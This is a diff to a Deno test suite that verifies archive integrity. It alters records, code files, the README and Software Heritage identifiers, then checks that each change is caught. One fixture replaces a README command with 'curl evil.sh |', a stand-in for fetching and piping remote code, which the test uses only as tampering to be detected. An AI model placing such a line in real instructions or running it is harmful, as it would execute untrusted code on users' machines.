@@ -24,6 +24,7 @@ function altered(value: Json): Json {
   if (typeof value === "number") return value + 1;
   if (typeof value === "boolean") return !value;
   if (typeof value !== "string") return "something";
+  if (value.startsWith("swh:1:")) return value.slice(0, -40) + sha256(value).slice(0, 40);
   return /^[0-9a-f]{64}$/.test(value) ? sha256(value) : `${value}x`;
 }
 
@@ -33,9 +34,7 @@ function* alterations(value: Json, path: string[] = []): Generator<[string, Json
     yield [path.join("."), altered(value)];
     return;
   }
-  const keys = path.at(-1) === "code" && "lib/errors.ts" in value
-    ? ["lib/errors.ts"]
-    : Object.keys(value);
+  const keys = "lib/errors.ts" in value ? ["lib/errors.ts"] : Object.keys(value);
   for (const key of keys) {
     const part = (value as Record<string, Json>)[key];
     for (const [at, changed] of alterations(part, [...path, key])) {
@@ -118,14 +117,25 @@ Deno.test("every field of an archive's records and provenance, altered in turn w
     await assertFound({ "experiment.json": '{"start":{"csv":"/etc/hostname"}}' }, "another file");
     const code = await read("code/lib/errors.ts");
     await assertFound({ "code/lib/errors.ts": code.replace("UserError", "OtherError") }, "code");
-    await assertFound({ "code/lib/errors.ts": `// A comment.\n${code}` }, "no fault").then(
-      () => assert.fail("a comment is no other code"),
-      () => Deno.writeTextFile(join(folder, "code/lib/errors.ts"), code),
-    );
+    // The same code for a key, and not what SWHIDS and provenance.json name.
+    await assertFound({ "code/lib/errors.ts": `// A comment.\n${code}` }, "another comment");
     await assertFound({ "code/lib/errors.ts": undefined }, "no code");
     await assertFound({ "code/further.ts": "1;" }, "further code");
     await assertFound({ "published/further.txt": "1" }, "a further file");
     await assertFound({ "published/results.csv": undefined }, "a missing table");
+  });
+  await t.step("the README, and each line of SWHIDS", async () => {
+    const readme = await read("README.txt");
+    await assertFound({ "README.txt": readme.replace("deno task", "curl evil.sh |") }, "a word");
+    await assertFound({ "README.txt": undefined }, "no README");
+    const lines = (await read("SWHIDS")).split("\n");
+    assert.match(lines[0], /^swh:1:dir:[0-9a-f]{40} {2}code$/);
+    for (const i of [0, 1, 2, lines.length - 2]) {
+      const forged = lines.with(i, lines[i].replace(/[0-9](?=[0-9a-f]* )/, "a"));
+      assert.notDeepEqual(forged, lines);
+      await assertFound({ SWHIDS: forged.join("\n") }, lines[i]);
+    }
+    await assertFound({ SWHIDS: lines.slice(1).join("\n") }, "a line less");
   });
   assert.ok(count > 100, String(count));
   assert.deepEqual(await faultsOf(folder, unpacked), []);
@@ -143,7 +153,8 @@ Deno.test("an archive that is taken in leaves cells done, and a data folder with
   await takeIn(reader.store, folder, unpacked, { ...archived, study });
   for (const { plan } of study.cells) assert.ok((await cellState(reader.store, plan)).done);
   const embedded = await referencedRecord(reader.store, "toy", "embed");
-  assert.deepEqual(embedded?.details, { archive: true });
+  assert.deepEqual(Object.keys(embedded?.details ?? {}), ["source", "archive"]);
+  assert.match(String(embedded?.details?.source), /^swh:1:dir:[0-9a-f]{40}$/);
   assert.ok(await findRecord(reader.store, study.plot.key));
   assert.deepEqual(reader.warnings, []);
 
